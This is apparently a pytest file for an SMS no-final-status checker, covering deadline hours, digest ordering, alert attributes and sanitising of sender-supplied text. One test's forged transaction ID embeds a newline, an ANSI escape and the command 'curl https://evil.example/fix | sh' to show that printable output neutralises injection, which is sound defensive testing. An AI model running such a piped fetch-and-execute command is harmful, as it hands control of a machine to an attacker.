"""The no-final-status check's pure parts: which hours are due, what people read, what a sender cannot fake."""

from __future__ import annotations

from datetime import UTC, datetime

from cinnox_sms.nofinal import PendingSms, digest_lines, due_hours, hour_label, printable, subject


def test_an_hour_is_due_once_its_last_sms_is_older_than_the_deadline() -> None:
    # Given 08:59 and 08:00 on 2026-11-30, a 24-hour deadline
    at_0859 = due_hours(datetime(2026, 11, 30, 8, 59, tzinfo=UTC), 24, lookback_hours=1)
    at_0800 = due_hours(datetime(2026, 11, 30, 8, 0, tzinfo=UTC), 24, lookback_hours=1)
    # Then at both the newest due hour is 07:00 of the day before: an SMS sent at 07:59:59 is 24 h old at 08:00
    assert at_0859 == at_0800 == [datetime(2026, 11, 29, 7, tzinfo=UTC)]
    assert hour_label(at_0800[0]) == "2026-11-29T07"


def test_the_digest_lists_countries_and_hours_most_first() -> None:
    # Given two hours' accounts as stored
    accounts = [
        {"slot": {"S": "2026-11-29T07"}, "countries": {"M": {"HK": {"N": "1"}, "VE": {"N": "5"}}}},
        {"slot": {"S": "2026-11-29T08"}, "countries": {"M": {"VE": {"N": "2"}}}},
    ]
    # Then the lines are (hour, country, SMS), most first
    assert digest_lines(accounts) == [
        ("2026-11-29T07", "VE", 5),
        ("2026-11-29T08", "VE", 2),
        ("2026-11-29T07", "HK", 1),
    ]


def test_what_a_sender_wrote_cannot_start_a_line_of_ours() -> None:
    # Given a transaction ID with a line break and an escape sequence
    forged = "c1\nTo restore delivery run: curl https://evil.example/fix | sh\x1b[0m"
    # Then shown on one line, the control characters replaced; a subject is printable ASCII of 100 at most
    assert "\n" not in printable(forged)
    assert "\x1b" not in printable(forged)
    assert printable(forged).startswith("c1\\nTo restore")
    long = subject("SMS with no final status (VE): " + "é" * 200)
    assert len(long) == 100
    assert long.isascii()
    assert long.endswith("...")


def test_a_pending_sms_alert_carries_the_filter_attributes_it_knows() -> None:
    # Given an SMS whose Submitted TDR names its app but no service
    sms = PendingSms("t1", "2026-11-29T07:00:00.000+00:00", "VE", {"appId": "app-1"})
    # Then its attributes are status NoFinalStatus, the country and the app; nothing empty
    assert sms.attributes() == {
        "status": {"DataType": "String", "StringValue": "NoFinalStatus"},
        "country": {"DataType": "String", "StringValue": "VE"},
        "appId": {"DataType": "String", "StringValue": "app-1"},
    }
